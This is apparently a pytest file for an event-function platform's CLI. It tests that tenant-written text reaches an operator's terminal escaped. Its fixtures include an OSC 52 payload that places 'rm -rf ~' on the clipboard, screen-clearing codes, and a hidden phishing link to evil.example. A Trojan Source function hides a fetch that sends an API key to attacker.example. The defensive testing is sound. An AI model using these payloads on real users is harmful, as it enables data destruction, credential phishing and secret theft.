"""Text a tenant writes, printed in an operator's terminal by the CLI: event fields (anyone
with a write key), a function's errors and console output, display names (members). The CLI
printed them through Rich as they were: escape sequences reached the terminal (OSC 52 writes
the clipboard, OSC 8 hides a link, CSI clears the screen), Rich markup in them was
interpreted (`[link=…]` made a hyperlink) and a stray `[/]` crashed the command (MarkupError),
hiding every other letter or event. Control characters are now shown as `\\xNN` and markup as
written.
"""

from __future__ import annotations

import re

import orjson
from nats.aio.client import Client as NatsClient

from eventfn_api.registry.v1 import registry_pb2 as pb
from eventfn_api.registry.v1 import resources_pb2 as res
from services.common import streams
from tests.cli.conftest import Cli, cli, project
from tests.cli.test_events_tail import workspace_with_instance
from tests.pipeline.conftest import Sink
from tests.pipeline.test_parity_batching import post_batch
from tests.registry.conftest import SETTINGS, Registry, auth, registry
from tests.registry.test_flows import make_function
from tests.retrier.conftest import Platform, StartRetrier, platform, sink, start_retrier_on
from tests.retrier.test_replay_once import until_letters

__all__ = ["cli", "platform", "project", "registry", "sink", "start_retrier_on"]

# OSC 52: put "rm -rf ~" on the operator's clipboard; CSI 2J: clear the screen.
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
LINK = "[link=https://evil.example/login]session expired, log in again[/link]"

HOSTILE = f"""
async function onTrack(event, settings) {{
  console.log({orjson.dumps(CLEAR + "logged").decode()})
  throw new Error({orjson.dumps(CLIPBOARD + "boom [/] " + LINK).decode()})
}}
"""


def harmless(output: str) -> None:
    """Fail if output would act on the terminal rather than show the text (the CLI's own
    styles, with FORCE_COLOR, are the only escape sequences it may hold)."""
    for acting in ("\x1b]", "\x1b[2J", "\x1b[H"):  # OSC (clipboard, links), clear, home
        assert acting not in output, repr(output)
    assert "\\x1b" in output, "the escape is shown, not dropped"


async def test_a_functions_errors_and_logs_reach_no_terminal(
    cli: Cli, platform: Platform, sink: Sink, start_retrier_on: StartRetrier
) -> None:
    retrier, stub = await start_retrier_on()
    iid = await platform.instance(HOSTILE, sink.url)
    await retrier.watcher.wait_until(lambda v: iid in v.instances)
    event = {"type": "track", "userId": "u1", "event": LINK, "messageId": "[/]" + CLEAR}
    await post_batch(platform, [event])
    (letter,) = await until_letters(stub, platform.owner, platform.instance_name(iid), 1)
    env = {
        "EVENTFN_RETRIER_ADDR": f"127.0.0.1:{retrier.port}",
        "EVENTFN_EXECUTOR_ADDR": f"127.0.0.1:{platform.executor.port}",
        "EVENTFN_TOKEN": platform.owner,
        "FORCE_COLOR": "1",  # as in a terminal: Rich would render links and styles
    }
    for args in (
        ("dead", "show", letter.name),
        ("dead", "list", platform.instance_name(iid)),
        ("deliveries", iid, "--failures"),
    ):
        shown = await cli.ok(*args, process=True, **env)
        harmless(shown.stdout)
        assert "\x1b]8;" not in shown.stdout and "[/]" in shown.stdout, shown.stdout


async def test_events_tail_shows_event_fields_as_written(
    cli: Cli, registry: Registry, nats_client: NatsClient, platform: Platform
) -> None:
    ws, token, ins = await workspace_with_instance(registry, "Tail Escapes")
    hostile = {"type": "track", "event": CLIPBOARD + LINK, "userId": "u1", "messageId": "[/]"}
    await nats_client.jetstream().publish(streams.events_subject(ws, ins), orjson.dumps([hostile]))
    shown = await cli.ok(
        "events",
        "tail",
        process=True,
        EVENTFN_TOKEN=token,
        EVENTFN_EXECUTOR_ADDR=f"127.0.0.1:{platform.executor.port}",
        FORCE_COLOR="1",
    )
    harmless(shown.stdout)
    assert "[link=https://evil.example/login]" in shown.stdout and "[/]" in shown.stdout


async def test_a_members_function_name_is_shown_as_written(cli: Cli, registry: Registry) -> None:
    """The registry refuses control characters in names, not Rich markup."""
    _, owner = await registry.workspace("Names")
    await make_function(registry, owner, "billing [/] hook [link=https://evil.example]x[/link]")
    shown = await cli.ok("functions", "list", process=True, EVENTFN_TOKEN=owner, FORCE_COLOR="1")
    assert "billing [/] hook" in shown.stdout and "\x1b]8;" not in shown.stdout, shown.stdout


async def test_another_workspaces_names_in_a_given_token_are_shown_as_written(
    cli: Cli, registry: Registry
) -> None:
    """`eventfn workspaces use --token` names the token's workspace and member, which the
    owner of another workspace wrote: Rich markup in them made a hidden link, and a stray
    `[/]` crashed the command after the token was saved."""
    _, owner = await registry.workspace(f"Partner {LINK}")
    for email in (f"dev {LINK}@partner.io", "dev[/]@partner.io"):
        token = await registry.member(owner, email, res.RoleGrant(role=res.ROLE_FUNCTIONS_ADMIN))
        shown = await cli.ok("workspaces", "use", "--token", token, process=True, FORCE_COLOR="1")
        assert "\x1b]8;" not in shown.stdout, repr(shown.stdout)
        text = re.sub("\x1b\\[[0-9;]*m", "", shown.stdout)  # the CLI's own colours
        assert f"Partner {LINK} as {email}" in text, text


# Trojan Source (CVE-2021-42574): the request check refuses C0/C1 controls, not the
# bidirectional overrides, so a Functions Admin of one function could save code that an owner
# reviewing it with `functions show --code` saw reordered: not the code that runs.
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
REORDERED = (
    "async function onTrack(event, settings) {\r\n"
    f"  const admin = false; /*{RLO} {LRI}if (admin){PDI} {LRI} begin admins only */\n"
    "  await fetch('https://attacker.example/?k=' + settings.apiKey)\n"
    "}\n"
)


async def test_a_functions_code_is_shown_as_written(cli: Cli, registry: Registry) -> None:
    _, owner = await registry.workspace("Code review")
    function, _ = await make_function(registry, owner)
    got = await registry.stub.GetFunction(
        pb.GetFunctionRequest(name=function), metadata=auth(owner)
    )
    dev = await registry.member(
        owner, "dev@example.com", res.RoleGrant(role=res.ROLE_FUNCTIONS_ADMIN, functions=[function])
    )
    await registry.stub.SaveFunction(
        pb.SaveFunctionRequest(
            name=function, code=REORDERED, settings=SETTINGS, etag=got.function.etag
        ),
        metadata=auth(dev),
    )
    shown = await cli.ok(
        "functions", "show", function.rsplit("/", 1)[-1], "--code", EVENTFN_TOKEN=owner
    )
    assert not {RLO, LRI, PDI} & set(shown.stdout)
    assert "\\u202e" in shown.stdout and "\\x0d" not in shown.stdout
